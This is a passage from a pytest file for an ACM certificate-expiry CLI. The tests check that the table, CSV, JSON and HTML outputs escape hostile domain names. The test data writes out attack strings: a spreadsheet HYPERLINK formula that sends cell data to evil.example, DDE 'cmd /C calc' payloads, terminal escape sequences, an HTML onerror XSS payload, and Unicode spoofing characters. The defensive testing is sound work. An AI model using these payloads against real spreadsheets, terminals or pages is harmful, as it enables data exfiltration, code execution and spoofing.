                if a.get("class") == "account-heading"]  # fmt: skip
    assert [heading.split(" ")[:2] for heading in headings] == [["Account", A1], ["Account", A2]]
    rows = page.body_rows()
    assert len(rows) == len(REPORT.rows)
    for (_, cells, _), source in zip(rows, in_page_order(REPORT), strict=True):
        assert cells[0] == source.domain
        assert cells[HTML_COLUMNS.index("Region")] == source.region
        assert cells[HTML_COLUMNS.index("Note")] == note_of(source.annotation)
    assert escape(SPECIAL_DOMAIN) in text and SPECIAL_DOMAIN not in text  # short: whole, never broken
    assert escape(SPECIAL_ANNOTATION) in text and SPECIAL_ANNOTATION not in text
    assert "&lt;script&gt;" in text and "&amp;" in text and "&quot;" in text and "&#x27;" in text


def test_html_of_an_empty_report() -> None:
    page = parse(render(Report(30, NOW, (), "Config aggregator <org>"), "html"))
    assert page.rects == [] and page.body_rows() == []
    assert "No certificate expired or expiring in the next 90 days" in page.svg_texts
    assert page.heading == "ACM certificate expiry: no certificates"
    assert "From Config aggregator <org>;" in "".join(page.text)


# hostile names, every format -------------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spaced": "  =1+1",
    "osc8": "\x1b]8;;http://evil.example/\x1b\\ok.example.com",  # a terminal hyperlink left open
    "csi": "\x1b[2J\x1b[31mred.example.com",
    "cr": "good.example.com\rEVIL",
    "nul": "nul\x00.example.com",
    "bidi": "\u202emoc.elpmaxe",
    "zero-width": "pay\u200bpal.example.com",
    "separator": "line\u2028separator.example.com",
    "html": "<img src=x onerror=alert(1)>.example.com",
    "tab": "\tcmd.example.com",
}


def hostile_report() -> Report:
    rows = tuple(
        row(A1 if index % 2 else A2, US, name, 3 + index, domain=domain, annotation=f"Exempt by tag t: {domain}")
        for index, (name, domain) in enumerate(HOSTILE.items())
    )
    return Report(WINDOW, NOW, rows, "Config aggregator \x1b[31morg")


def visible_only(text: str, allowed: str = "\n") -> None:
    """No character a terminal or viewer acts on, but line ends."""
    bad = [hex(ord(char)) for char in text if not (char.isprintable() or char == " " or char in allowed)]
    assert bad == []


def test_hostile_names_in_the_table_are_escaped_visibly() -> None:
    for wide in (False, True):
        text = render(hostile_report(), "table", wide=wide)
        visible_only(text)
        assert "\\x1b" in text and "\\u202e" in text and "\\x00" in text and "\\x09" in text
    _, cells = table_cells(render(hostile_report(), "table"))
    domains = [shown["DOMAIN"] for shown in cells]
    assert domains == [
        " ".join(printable(domain).split()) for domain in HOSTILE.values()
    ]  # whole, escaped: \r, \x00, \u202e, \u200b, \u2028, \t written out
    assert "good.example.com\\x0dEVIL" in domains and "\\x09cmd.example.com" in domains
    assert "\\u202emoc.elpmaxe" in domains
    assert "\\x1b]8;;http://evil.example/\\x1b\\ok.example.com" in domains


def test_hostile_names_in_csv_are_text_a_spreadsheet_does_not_run() -> None:
    text = render(hostile_report(), "csv")
    visible_only(text.replace("\r\n", "\n"))
    records = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for record, domain in zip(records, HOSTILE.values(), strict=True):
        cell = record[CSV_FIELDS.index("domain")]
        assert cell.removeprefix("'") == printable(domain)
        runs = printable(domain).lstrip(" ")[:1] in "=+-@"
        assert cell.startswith("'") == runs  # the quote only where a spreadsheet would run the cell
        assert record[CSV_FIELDS.index("annotation")] == printable(f"Exempt by tag t: {domain}")
        assert int(record[CSV_FIELDS.index("days_left")]) > 0
    assert [r[CSV_FIELDS.index("domain")][:2] for r in records[:5]] == ["'=", "'+", "'-", "'@", "' "]
    for cell in (cell for record in records for cell in record):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\0") and cell.lstrip(" ")[:1] not in ("=", "+", "@")


def test_hostile_names_in_json_keep_their_exact_value_escaped_by_json() -> None:
    text = render(hostile_report(), "json")
    assert text.isascii()
    visible_only(text)
    document = json.loads(text)
    assert [shown["domain"] for shown in document["rows"]] == list(HOSTILE.values())
    assert document["source"] == "Config aggregator \x1b[31morg"


def test_hostile_names_in_html_are_escaped_text() -> None:
    text = render(hostile_report(), "html")
    visible_only(text)
    page = parse(text)
    assert [tag for tag, _ in page.tags].count("img") == 0 and [tag for tag, _ in page.tags].count("script") == 1
    domains = [printable(r.domain) for r in in_page_order(hostile_report())]
    assert [cells[0] for _, cells, _ in page.body_rows()] == domains
    assert "From Config aggregator \\x1b[31morg;" in "".join(page.text)
    assert "\u202e" not in text and "\\u202emoc" in text


# every format ----------------------------------------------------------------------------------


@pytest.mark.parametrize("output_format", FORMATS)
def test_same_report_same_text(output_format: str) -> None:
    copy = Report(WINDOW, NOW, tuple(REPORT.rows), REPORT.source)
    assert render(REPORT, output_format) == render(copy, output_format)
    assert render(REPORT, output_format).endswith("\n")


def test_bad_input_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown report format 'xml'"):
        render(REPORT, "xml")
    with pytest.raises(ValueError, match="timezone-aware"):
        render(Report(WINDOW, NOW.replace(tzinfo=None), (), "ACM"), "json")
    with pytest.raises(ValueError, match="unknown verdict"):
        render(Report(WINDOW, NOW, (row(A1, US, "x", 5, verdict="MAYBE"),), "ACM"), "csv")


def test_the_page_uses_the_text_formats_module_and_not_the_other_way_round() -> None:
    """report.py (the model and the text formats) imports neither the page nor the format picker."""
    package = Path(__file__).resolve().parent.parent / "cli" / "acm_expiry_cli"

    def imported(module: str) -> set[str]:
        tree = ast.parse((package / f"{module}.py").read_text(encoding="utf-8"))
        names = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
        names |= {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        return {name for name in names if name.startswith("acm_expiry_cli")}

    assert imported("report") == set()
    assert imported("html_report") == {"acm_expiry_cli.report"}
    assert imported("formats") == {"acm_expiry_cli.report", "acm_expiry_cli.html_report"}


# Invisible characters and formula look-alikes (issue 27) ---------------------------------------------

# Printable by Python, drawn as nothing or a blank: the invisible-characters.com list's graphic ones.
BLANKS = {"\u2800": "braille blank", "\U0001d159": "null notehead", "\U00016fe4": "Khitan filler"}
FILLERS = ("\u3164", "\u115f", "\u1160", "\uffa0")  # Hangul filler, choseong and jungseong fillers, half-width


def default_ignorable_and_printable() -> set[str]:
    """Unicode's Default_Ignorable_Code_Point, as the regex module knows it, less what isprintable refuses."""
    import regex

    pattern = regex.compile(r"\p{Default_Ignorable_Code_Point}")
    return {chr(code) for code in range(0x110000) if pattern.match(chr(code)) and chr(code).isprintable()}


def test_invisible_characters_are_every_default_ignorable_one_and_the_blank_ones() -> None:
    from acm_expiry_cli.report import INVISIBLE

    assert default_ignorable_and_printable() | set(BLANKS) == INVISIBLE
    assert set(FILLERS) <= INVISIBLE


@pytest.mark.parametrize("char", [*FILLERS, *BLANKS, "\u034f", "\ufe0f", "\U000e0100", "\u17b4", "\u180b"])
def test_an_invisible_character_is_written_as_an_escape_in_every_format(char: str) -> None:
    code = ord(char)
    escape = f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
    domain = f"pay{char}pal.example.com"
    report = Report(WINDOW, NOW, (row(A1, US, "x", 5, domain=domain, annotation=f"Exempt by tag t: {char}"),), "ACM")
    for output_format in ("table", "csv", "html"):
        text = render(report, output_format, wide=output_format == "table")
        assert char not in text and f"pay{escape}pal.example.com" in text.replace("<wbr>", "")
    assert json.loads(render(report, "json"))["rows"][0]["domain"] == domain  # exact, JSON-escaped
    assert printable("café.example.com 例え.jp") == "café.example.com 例え.jp"  # letters of any script stay


LOOK_ALIKES = "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u207b\u208c\u208a\u208b\u2212"


@pytest.mark.parametrize("char", LOOK_ALIKES)
def test_a_formula_look_alike_at_the_start_of_a_csv_cell_is_made_text(char: str) -> None:
    from acm_expiry_cli.report import spreadsheet_text

    folded = unicodedata.normalize("NFKC", char)
    assert folded in "=+-@" or folded == "\u2212"  # each is, or folds to, a formula's first character
    for cell in (f"{char}HYPERLINK(1)", f"  {char}1+1"):
        assert spreadsheet_text(cell) == "'" + cell
    assert spreadsheet_text(f"a{char}1") == f"a{char}1"  # inside a cell, harmless
    text = render(Report(WINDOW, NOW, (row(A1, US, "x", 5, domain=f"{char}1.example.com"),), "ACM"), "csv")
    assert list(csv.reader(io.StringIO(text, newline="")))[1][CSV_FIELDS.index("domain")] == f"'{char}1.example.com"
